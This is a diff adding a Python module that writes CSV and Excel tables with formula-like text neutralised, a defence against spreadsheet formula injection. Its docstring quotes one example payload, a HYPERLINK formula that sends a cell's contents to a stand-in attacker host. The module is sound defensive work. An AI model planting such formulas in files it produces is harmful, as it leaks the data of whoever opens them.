@@ -1,0 +1,105 @@
+"""Tables written so that no spreadsheet runs them: CSV and Excel without live formulas.
+
+A name such as ``=HYPERLINK("http://evil.example/?x="&A2,"点我")`` read from an
+imported file is data. Written as it is, Excel and LibreOffice take it for a
+formula (OWASP "CSV injection"). Every table gridmap writes for people to open
+goes through :func:`write_csv`, :func:`write_xlsx` or :func:`write_table`:
+
+* in CSV, a text field (or header) starting with ``=``, ``+``, ``-``, ``@``, tab
+  or carriage return gets a leading ``'``, which spreadsheets show as text;
+* in Excel, such a cell is stored as a string with the quote-prefix style (what
+  Excel itself does when a user types ``'=...``), never as a formula.
+
+Only text is touched: the number ``-5`` stays a number, the text ``"-5"`` is
+neutralised.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Mapping
+from pathlib import Path
+from typing import Final
+
+import pandas as pd
+from openpyxl.worksheet.worksheet import Worksheet
+
+__all__ = [
+    "FORMULA_PREFIXES",
+    "csv_safe",
+    "is_formula_like",
+    "neutralise",
+    "protect_sheet",
+    "write_csv",
+    "write_table",
+    "write_xlsx",
+]
+
+#: First characters that make a spreadsheet read a text as a formula (OWASP).
+FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
+
+SheetHook = Callable[[str, Worksheet], None]
+
+
+def is_formula_like(value: object) -> bool:
+    """True for a text a spreadsheet would evaluate (it starts with a formula prefix)."""
+    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
+
+
+def neutralise(value: object) -> object:
+    """``value`` with a leading ``'`` if it is formula-like text, else unchanged."""
+    return f"'{value}" if is_formula_like(value) else value
+
+
+def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text values and headers are neutralised for CSV."""
+    out = frame.rename(columns={c: neutralise(c) for c in frame.columns if is_formula_like(c)})
+    for position in range(out.shape[1]):
+        column = out.iloc[:, position]
+        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
+            out.isetitem(position, column.map(neutralise).to_numpy(dtype=object))
+    return out
+
+
+def protect_sheet(sheet: Worksheet) -> int:
+    """Store every formula-like text cell of ``sheet`` as quoted text; return how many."""
+    count = 0
+    for row in sheet.iter_rows():
+        for cell in row:
+            if is_formula_like(cell.value):
+                cell.data_type = "s"  # openpyxl made it "f" because it starts with "="
+                cell.quotePrefix = True
+                count += 1
+    return count
+
+
+def write_csv(frame: pd.DataFrame, path: Path | str) -> Path:
+    """Write ``frame`` without its index as UTF-8 CSV with BOM (Excel reads the Chinese).
+
+    Lines end in CRLF (RFC 4180), so a field holding a bare carriage return is quoted.
+    """
+    target = Path(path)
+    csv_safe(frame).to_csv(target, index=False, encoding="utf-8-sig", lineterminator="\r\n")
+    return target
+
+
+def write_xlsx(
+    path: Path | str, sheets: Mapping[str, pd.DataFrame], *, on_sheet: SheetHook | None = None
+) -> Path:
+    """Write one sheet per frame (no index); ``on_sheet(name, worksheet)`` may format each."""
+    target = Path(path)
+    with pd.ExcelWriter(target, engine="openpyxl") as writer:
+        for name, frame in sheets.items():
+            frame.to_excel(writer, sheet_name=name, index=False)
+            sheet = writer.sheets[name]
+            protect_sheet(sheet)
+            if on_sheet is not None:
+                on_sheet(name, sheet)
+    return target
+
+
+def write_table(frame: pd.DataFrame, path: Path | str) -> Path:
+    """Write ``frame`` as one sheet if ``path`` ends in ``.xlsx``, else as CSV."""
+    target = Path(path)
+    if target.suffix.lower() == ".xlsx":
+        return write_xlsx(target, {"Sheet1": frame})
+    return write_csv(frame, target)
